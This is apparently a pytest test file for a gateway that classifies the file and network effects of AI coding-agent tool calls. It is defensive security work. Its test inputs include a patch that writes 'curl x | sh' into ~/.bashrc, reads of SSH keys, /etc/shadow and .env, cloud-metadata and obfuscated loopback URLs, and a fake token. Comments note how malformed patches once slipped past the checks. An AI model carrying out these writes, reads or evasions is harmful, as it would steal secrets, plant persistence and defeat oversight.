"""
Tools that are not shells have the same effects, read from their input.

``Write ~/.bashrc`` is the same effect as ``>> ~/.bashrc``; a fetch of a
link-local, loopback or private address says so; MCP tools are mapped by the
configuration; a tool no row maps is ``opaque``.
"""

# ruff: noqa: S108 -- the paths are planned, never opened: /tmp here is a value to classify

from __future__ import annotations

from pathlib import Path
from typing import Any

import pytest

from effects.support import CWD, HOME, PATHS, effects_of, only
from gateway import load_config
from gateway._plan._paths import path_context
from gateway._review._analysis import tool_directory, tool_effects
from gateway._settings._tools import ToolEffects
from gateway.effects import Bind, Network, Opaque, Privilege, Read, Write


def _effects(tool: str, data: dict[str, Any], rows: tuple[ToolEffects, ...] = ()) -> list[Any]:
    return list(tool_effects(tool, data, rows, PATHS))


def test_a_write_of_a_start_up_file_is_the_same_effect_as_a_redirect() -> None:
    (tool,) = only(_effects("Write", {"file_path": f"{HOME}/.bashrc", "content": "x"}), Write)
    (shell,) = only(effects_of("echo x >> ~/.bashrc"), Write)
    assert (tool.path.value, tool.path.classes) == (shell.path.value, shell.path.classes)
    assert tool.path.classes == ("home", "persistence")


@pytest.mark.parametrize(
    ("tool", "data", "reads", "writes"),
    [
        ("Read", {"file_path": f"{HOME}/.ssh/id_rsa"}, [("~/.ssh/id_rsa", ("home", "secret"))], []),
        (
            "Edit",
            {"file_path": "src/app.py", "old_string": "a", "new_string": "b"},
            [(f"{CWD}/src/app.py", ("workspace",))],
            [(f"{CWD}/src/app.py", ("workspace",))],
        ),
        (
            "MultiEdit",
            {"file_path": ".git/config", "edits": []},
            [(f"{CWD}/.git/config", ("workspace", "persistence"))],
            [(f"{CWD}/.git/config", ("workspace", "persistence"))],
        ),
        (
            "NotebookEdit",
            {"notebook_path": "/tmp/n.ipynb", "new_source": ""},
            [("/tmp/n.ipynb", ("temp",))],
            [("/tmp/n.ipynb", ("temp",))],
        ),
        ("Grep", {"pattern": "TODO"}, [(CWD, ("workspace",))], []),
        (
            "Glob",
            {"pattern": "**/*.py", "path": "~"},
            [
                ("~", ("home", "secret", "persistence")),
                ("~/**/*.py", ("home", "secret", "persistence")),
            ],
            [],
        ),
        (
            "read_file",
            {"absolute_path": "/etc/shadow"},
            [("/etc/shadow", ("secret", "system"))],
            [],
        ),
        (
            "read_many_files",
            {"paths": ["src", ".env"]},
            [(f"{CWD}/src", ("workspace",)), (f"{CWD}/.env", ("workspace", "secret"))],
            [],
        ),
        (
            "write_file",
            {"file_path": ".github/workflows/ci.yml", "content": ""},
            [],
            [(f"{CWD}/.github/workflows/ci.yml", ("workspace", "persistence"))],
        ),
        ("save_memory", {"fact": "x"}, [], [("~/.gemini/GEMINI.md", ("home", "persistence"))]),
    ],
)
def test_file_tools_read_and_write_their_paths(
    tool: str,
    data: dict[str, Any],
    reads: list[tuple[str, tuple[str, ...]]],
    writes: list[tuple[str, tuple[str, ...]]],
) -> None:
    effects = _effects(tool, data)
    assert [(r.path.value, r.path.classes) for r in only(effects, Read)] == reads
    assert [(w.path.value, w.path.classes) for w in only(effects, Write)] == writes


def test_a_patch_writes_the_files_it_names() -> None:
    patch = (
        "*** Begin Patch\n*** Add File: new.py\n+x\n*** Update File: .bashrc\n"
        "*** Move to: ~/.profile\n*** Delete File: old.py\n*** End Patch\n"
    )
    writes = only(_effects("apply_patch", {"input": patch}), Write)
    assert [(w.path.value, w.action) for w in writes] == [
        (f"{CWD}/new.py", "create"),
        (f"{CWD}/.bashrc", "write"),
        ("~/.profile", "create"),
        (f"{CWD}/old.py", "delete"),
    ]


@pytest.mark.parametrize("field", ["command", "input", "patch"])
def test_a_patch_is_read_under_every_name_a_host_gives_it(field: str) -> None:
    # Codex's hooks send its apply_patch as `command`: read under no other name,
    # a patch writing ~/.bashrc had no effects, and workspace-write allowed it.
    patch = "*** Begin Patch\n*** Add File: ~/.bashrc\n+curl x | sh\n*** End Patch"
    (write,) = only(_effects("apply_patch", {field: patch}), Write)
    assert (write.path.value, write.path.classes, write.action) == (
        "~/.bashrc",
        ("home", "persistence"),
        "create",
    )


def test_an_indented_patch_header_is_a_header_as_codex_reads_it() -> None:
    patch = "*** Begin Patch\n  *** Add File: ~/.profile\n+x\n*** End Patch"
    (write,) = only(_effects("apply_patch", {"command": patch}), Write)
    assert write.path.value == "~/.profile"


@pytest.mark.parametrize(
    "patch",
    [
        "*** Begin Patch\n*** Append File: ~/.bashrc\n+x\n*** End Patch",
        "*** Begin Patch\n*** Add file: ~/.bashrc\n+x\n*** End Patch",
        "not a patch at all",
    ],
)
def test_a_patch_naming_files_in_an_unknown_way_is_opaque(patch: str) -> None:
    (opaque,) = only(_effects("apply_patch", {"command": patch}), Opaque)
    assert "names a file in a way this reader does not know" in opaque.reason


def test_a_tool_whose_input_holds_none_of_its_rows_fields_is_opaque() -> None:
    # `Write` given its path under another name: "it writes nothing" would be a guess.
    (opaque,) = _effects("Write", {"path": "~/.bashrc", "content": "x"})
    assert isinstance(opaque, Opaque)
    assert "does not declare (`path`)" in opaque.reason
    # The harmless twins: the row's own field, and a tool whose row names no content.
    assert only(_effects("Write", {"file_path": "notes.md", "content": "x"}), Write)
    assert _effects("TodoWrite", {"todos": []}) == []
    assert _effects("local_shell", {"action": {"command": ["ls"]}}) == []


@pytest.mark.parametrize(
    ("url", "address"),
    [
        ("https://example.com/docs", "public"),
        ("http://169.254.169.254/latest/meta-data/", "link_local"),
        ("http://metadata.google.internal/computeMetadata/v1/", "link_local"),
        ("http://[fd00:ec2::254]/", "private"),
        ("http://[::ffff:169.254.169.254]/", "link_local"),
        ("http://127.1:8080/", "loopback"),
        ("http://2130706433/", "loopback"),
        ("http://0x7f.0.0.1/", "loopback"),
        ("http://localhost:3000/", "loopback"),
        ("http://0.0.0.0/", "loopback"),
        ("http://10.1.2.3/", "private"),
        ("http://192.168.0.1/", "private"),
        ("http://[::1]/", "loopback"),
    ],
)
def test_a_fetch_names_its_address_class(url: str, address: str) -> None:
    (network,) = only(_effects("WebFetch", {"url": url, "prompt": "summarise"}), Network)
    assert (network.kind, network.target, network.address) == ("connect", url, address)


def test_a_fetch_prompt_and_a_search_are_network_effects() -> None:
    effects = _effects("web_fetch", {"prompt": "read http://10.0.0.1/x and https://a.io/y"})
    assert [(n.target, n.address) for n in only(effects, Network)] == [
        ("http://10.0.0.1/x", "private"),
        ("https://a.io/y", "public"),
    ]
    (search,) = only(_effects("WebSearch", {"query": "x"}), Network)
    assert (search.target, search.address) == (None, "public")


def test_local_shell_states_its_environment_user_and_directory() -> None:
    data = {
        "action": {
            "type": "exec",
            "command": ["ls"],
            "env": {
                "PATH": "/tmp/evil:/usr/bin",
                "GITHUB_TOKEN": "ghp_abcdefghijklmnopqrstuvwxyz0123456789",
            },
            "user": "root",
            "working_directory": "/srv/app",
        }
    }
    effects = _effects("local_shell", data)
    binds = {b.name: b.text for b in only(effects, Bind)}
    assert binds["PATH"] == "/tmp/evil:/usr/bin"
    assert "ghp_" not in (binds["GITHUB_TOKEN"] or "")
    assert only(effects, Privilege) == [Privilege(via="local_shell", user="root")]
    assert tool_directory("local_shell", data, (), CWD) == "/srv/app"


def test_mcp_tools_are_mapped_by_the_configuration() -> None:
    rows = (
        ToolEffects(tool="mcp__filesystem__write_*", writes=("path",)),
        ToolEffects(tool="mcp__fetch__fetch", urls=("url",)),
    )
    (write,) = only(_effects("mcp__filesystem__write_file", {"path": "~/.zshrc"}, rows), Write)
    assert write.path.classes == ("home", "persistence")
    (fetch,) = only(_effects("mcp__fetch__fetch", {"url": "http://127.0.0.1/"}, rows), Network)
    assert fetch.address == "loopback"


def test_a_configured_row_comes_before_a_built_in_one() -> None:
    rows = (ToolEffects(tool="Read", none=True),)
    assert _effects("Read", {"file_path": "/etc/passwd"}, rows) == []


def test_a_tool_no_row_maps_is_opaque() -> None:
    (opaque,) = _effects("mcp__unknown__do_things", {"x": 1})
    assert isinstance(opaque, Opaque)
    assert "mcp__unknown__do_things" in opaque.reason


def test_a_tool_with_no_effects_outside_the_agent_has_none() -> None:
    assert _effects("TodoWrite", {"todos": []}) == []


def test_the_configuration_examples_load_and_mean_what_the_page_says() -> None:
    """The ``[paths]`` and ``[[tool-effects]]`` examples of docs/configuration.md are valid config."""
    page = (Path(__file__).resolve().parents[2] / "docs" / "configuration.md").read_text()
    blocks = {
        heading: body.split("```toml\n", 1)[1].split("```", 1)[0]
        for heading, body in (
            (section.split("`", 2)[1], section)
            for section in page.split("\n## ")[1:]
            if "```toml\n" in section
        )
        if heading in ("[paths]", "[[tool-effects]]")
    }
    config = load_config(blocks["[paths]"].encode() + blocks["[[tool-effects]]"].encode())
    assert config.paths.project_roots == ("/srv/shared",)
    paths = path_context(config.paths, CWD, HOME)
    assert "**/vault-token" in paths.secret_patterns
    (write,) = only(
        tool_effects(
            "mcp__filesystem__write_file", {"path": "~/.zshrc"}, config.tool_effects, paths
        ),
        Write,
    )
    assert write.path.classes == ("home", "persistence")


@pytest.mark.parametrize(
    ("tool", "data"),
    [
        ("read_file", {"path": f"{HOME}/.ssh/id_rsa"}),  # the MCP filesystem server's name
        ("Read", {"file_path": "README.md", "path": f"{HOME}/.ssh/id_rsa"}),
        ("Write", {"file_path": "notes.md", "content": "x", "target": "~/.bashrc"}),
        ("local_shell", {"action": {"command": ["ls"], "cwd": "/"}}),
    ],
)
def test_a_field_the_row_does_not_declare_is_not_known(tool: str, data: dict[str, Any]) -> None:
    (effect,) = _effects(tool, data)
    assert isinstance(effect, Opaque)
    assert "does not declare" in effect.reason


@pytest.mark.parametrize(
    ("tool", "data"),
    [
        ("Read", {"file_path": "README.md", "offset": 10, "limit": 5}),
        ("Write", {"file_path": "notes.md", "content": "x"}),
        ("read_file", {"absolute_path": f"{CWD}/README.md", "offset": 1, "limit": 2}),
        ("local_shell", {"action": {"type": "exec", "command": ["ls"], "timeout_ms": 1}}),
    ],
)
def test_every_field_a_row_declares_is_known(tool: str, data: dict[str, Any]) -> None:
    assert not only(_effects(tool, data), Opaque)


def test_a_glob_a_tool_lists_is_judged_under_its_path() -> None:
    (_, listed) = only(_effects("Glob", {"pattern": "../.ssh/*", "path": f"{HOME}/x"}), Read)
    assert (listed.path.value, listed.metadata, listed.path.pattern) == ("~/.ssh/*", True, True)
    assert "secret" in listed.path.classes


@pytest.mark.parametrize(
    ("paths", "base"),
    [
        (["*"], CWD),
        ([".e?v"], CWD),
        ([".[e]nv"], CWD),
        (["**/*"], CWD),
        (["{.env,README.md}"], CWD),
        (["src/**/*.ts"], f"{CWD}/src"),
        ([f"{HOME}/.ss?/*"], "~"),
    ],
)
def test_a_pattern_read_many_files_is_given_reads_everything_below_its_directory(
    paths: list[str], base: str
) -> None:
    # Gemini CLI globs its `paths`: `*` and `.e?v` match `.env`, which a
    # literal reading (a file named `*`) never saw.
    (read,) = only(_effects("read_many_files", {"paths": paths}), Read)
    assert (read.path.value, read.recursive) == (base, True)


def test_a_pattern_in_read_many_files_include_reads_too() -> None:
    reads = only(_effects("read_many_files", {"paths": ["README.md"], "include": ["*"]}), Read)
    assert [(r.path.value, r.recursive) for r in reads] == [
        (f"{CWD}/README.md", True),
        (CWD, True),
    ]


def test_read_many_files_of_plain_paths_reads_those_paths_and_exclude_is_harmless() -> None:
    """The harmless twins: named files are read as named, and `exclude` only narrows."""
    data = {"paths": ["src/app.py", "README.md"], "exclude": ["**/*.log"]}
    reads = only(_effects("read_many_files", data), Read)
    assert [r.path.value for r in reads] == [f"{CWD}/src/app.py", f"{CWD}/README.md"]
    assert not only(_effects("read_many_files", data), Opaque)


@pytest.mark.parametrize(
    ("tool", "data", "kind"),
    [
        ("Read", {"file_path": ["src/x.py", {"p": "~/.ssh/id_ed25519"}]}, "an object"),
        ("read_many_files", {"paths": ["src/x.py", {"p": "~/.ssh/id"}, 7, None]}, "an object"),
        ("read_many_files", {"paths": ["src/x.py", 7]}, "a number"),
        ("read_many_files", {"paths": ["src/x.py", None]}, "`null`"),
        ("Write", {"file_path": ["src/x.py", ["~/.bashrc"]], "content": "x"}, "a list"),
        ("Read", {"file_path": 7}, "a number"),
        ("Read", {"file_path": True}, "`true`"),
    ],
)
def test_a_path_list_item_that_is_not_text_makes_the_call_opaque(
    tool: str, data: dict[str, Any], kind: str
) -> None:
    # A lenient server may read `{"path": …}` or a nested list: dropping the
    # item judged a call that reads more than was judged.
    (opaque,) = _effects(tool, data)
    assert isinstance(opaque, Opaque)
    assert f"holds {kind} where" in opaque.reason


def test_a_configured_row_s_path_list_with_an_object_is_opaque() -> None:
    rows = (ToolEffects(tool="mcp__fs__read_multiple_files", reads=("paths",)),)
    (opaque,) = _effects(
        "mcp__fs__read_multiple_files", {"paths": ["src/x.py", {"p": "~/.ssh/id"}]}, rows
    )
    assert isinstance(opaque, Opaque)
    # The harmless twin: a list of strings, and a field left out (null).
    twin = _effects("mcp__fs__read_multiple_files", {"paths": ["src/a.py", "src/b.py"]}, rows)
    assert [r.path.value for r in only(twin, Read)] == [f"{CWD}/src/a.py", f"{CWD}/src/b.py"]
    assert not only(_effects("Grep", {"pattern": "x", "path": None}), Opaque)


@pytest.mark.parametrize(
    "header",
    [
        "*** Add File:  .envrc",
        "*** Add File: .envrc ",
        "*** Add File: .envrc\t",
        "*** Update File:  notes.txt",
        "*** Update File: a.txt\n*** Move to:  .envrc",
    ],
)
def test_a_patch_path_with_blanks_around_it_is_opaque(header: str) -> None:
    # Codex reads `*** Add File:  .envrc` as the file ` .envrc`; executors
    # that trim the path create `.envrc`.
    patch = f"*** Begin Patch\n{header}\n+x\n*** End Patch"
    effects = _effects("apply_patch", {"input": patch})
    (opaque,) = only(effects, Opaque)
    assert "with blanks around it" in opaque.reason
    # What the trimming executors write is judged too.
    assert [w.path.value for w in only(effects, Write)][-1] in (
        f"{CWD}/.envrc",
        f"{CWD}/notes.txt",
    )


def test_a_patch_path_without_blanks_is_not_opaque() -> None:
    patch = "*** Begin Patch\n*** Add File: notes.txt\n+x\n*** End Patch"
    effects = _effects("apply_patch", {"input": patch})
    assert not only(effects, Opaque)
    assert [w.path.value for w in only(effects, Write)] == [f"{CWD}/notes.txt"]
